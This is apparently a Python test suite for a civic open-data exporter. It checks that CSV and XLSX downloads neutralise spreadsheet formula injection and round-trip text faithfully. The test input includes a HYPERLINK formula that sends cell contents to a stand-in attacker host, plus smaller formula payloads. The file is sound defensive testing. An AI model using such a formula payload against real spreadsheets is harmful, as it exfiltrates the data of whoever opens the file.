"""Open-data files are safe to open in a spreadsheet: text never becomes a formula, and the CSV
neutralisation is undone by one documented rule (docs/public-site.md)."""

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from civicspace.imports.xlsx import stream_row, text_unescape
from civicspace.publishing.exports import (
    CELL_TEXT_LIMIT,
    codebook_csv,
    csv_text,
    rows_csv,
    rows_xlsx,
    sheet_rows_xml,
)
from civicspace.publishing.open_data import CODEBOOK, COLUMNS, published_rows

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2, "details")'
TEXT_COLUMNS = [c.name for c in CODEBOOK if c.kind == "string"]


def row(**values):
    base = dict.fromkeys(COLUMNS)
    base.update(country_iso2="KZ", country="Kazakhstan", year=2025, level="dimension", demo=False)
    base.update(values)
    return base


def read_csv(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def undo(value: str) -> str:
    """What docs/public-site.md tells a reader to do with a text column."""
    return value[1:] if value.startswith("'") else value


def test_formula_like_text_is_neutralised_in_the_csv():
    [read] = read_csv(
        rows_csv([row(name=HYPERLINK, label="+1", code="-x", principle="@SUM(A1)", source="\tx")])
    )
    assert read["name"] == "'" + HYPERLINK
    assert (read["label"], read["code"], read["principle"]) == ("'+1", "'-x", "'@SUM(A1)")
    assert read["source"] == "'\tx"


def test_numbers_stay_numbers_in_the_csv_negative_ones_too():
    [read] = read_csv(rows_csv([row(score=-1.5, weight=0.25, interval_low=-0.1, year=2025)]))
    assert (read["score"], read["weight"], read["interval_low"]) == ("-1.5", "0.25", "-0.1")


@given(st.text())
def test_any_text_comes_back_from_the_csv_by_dropping_one_leading_apostrophe(text):
    """Carriage returns included: a bare one would end the row early."""
    [read] = read_csv(rows_csv([row(**dict.fromkeys(TEXT_COLUMNS, text))]))
    for column in TEXT_COLUMNS:
        assert undo(read[column]) == text
        assert not read[column].startswith(("=", "+", "-", "@", "\t", "\r"))


def value_by_value(rows):
    """The CSV as a DictWriter writes it, each value protected on its own: how rows_csv wrote
    it before it went column by column (docs/public-site.md describes these bytes)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\r\n", extrasaction="ignore")
    writer.writeheader()
    for one in rows:
        writer.writerow({k: "" if v is None else csv_text(v) for k, v in one.items()})
    return out.getvalue()


VALUES = st.one_of(st.none(), st.text(), st.booleans(), st.integers(), st.floats())


@given(st.lists(st.fixed_dictionaries({c: VALUES for c in ("name", "label", "score", "code")})))
def test_the_csv_is_the_bytes_written_value_by_value(values):
    rows = [row(**v) for v in values]
    assert rows_csv(rows) == value_by_value(rows)


@pytest.mark.django_db
def test_the_download_of_every_row_is_the_csv_of_the_published_rows(demo, client):
    for query, rows in (
        ("", published_rows()),
        (
            "?country=GE,kz&level=principle",
            published_rows(countries=["GE", "KZ"], level="principle"),
        ),
    ):
        answer = client.get(f"/data/scores.csv{query}")
        assert answer.status_code == 200
        assert rows
        assert answer.content.decode() == rows_csv(rows) == value_by_value(rows)


def test_the_codebook_csv_is_neutralised_too():
    assert all(not r["meaning"].startswith("=") for r in read_csv(codebook_csv()))


def test_every_text_cell_of_the_xlsx_is_a_string_cell():
    data = rows_xlsx([row(name=HYPERLINK, label="=1+1", score=-1.5)])
    sheet = openpyxl.load_workbook(io.BytesIO(data))["scores"]
    name, label, score = (
        sheet.cell(row=2, column=COLUMNS.index(c) + 1) for c in ("name", "label", "score")
    )
    assert (name.value, name.data_type) == (HYPERLINK, "s")
    assert (label.value, label.data_type) == ("=1+1", "s")
    assert (score.value, score.data_type) == (-1.5, "n")


@given(st.text())
def test_any_text_comes_back_from_the_xlsx(text):
    """As Excel shows it: control characters travel in Excel's own escape (`_x0001_`)."""
    data = rows_xlsx([row(name=text)])
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True)["scores"]
    value = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))[COLUMNS.index("name")]
    assert text_unescape(str(value or "")) == text


def _openpyxl_rows(rows):
    """The rows as openpyxl's own write-only sheet writes them, through `stream_row`."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("scores")
    for each in rows:
        stream_row(sheet, [each[c] for c in COLUMNS])
    out = io.BytesIO()
    book.save(out)
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    return xml.partition(b"<sheetData>")[2].partition(b"</sheetData>")[0]


# What a row's cells hold: text of any kind, numbers (the data have no NaN or infinity), flags.
VALUES = st.one_of(
    st.none(),
    st.text(),
    st.sampled_from(["", " ", "=1+1", "#N/A", "Côte d'Ivoire", "a & <b>", "_x0041_"]),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
)


@given(st.lists(st.fixed_dictionaries({c: VALUES for c in COLUMNS}), max_size=4))
def test_the_xlsx_rows_are_written_as_openpyxl_writes_them(rows):
    """The rows' XML is made by hand, for speed: cell for cell what openpyxl would write."""
    assert sheet_rows_xml(rows, COLUMNS, first=1) == _openpyxl_rows(rows)


def test_a_long_text_is_cut_where_openpyxl_cuts_it():
    rows = [row(name="x" * (CELL_TEXT_LIMIT + 10))]
    assert sheet_rows_xml(rows, COLUMNS, first=1) == _openpyxl_rows(rows)
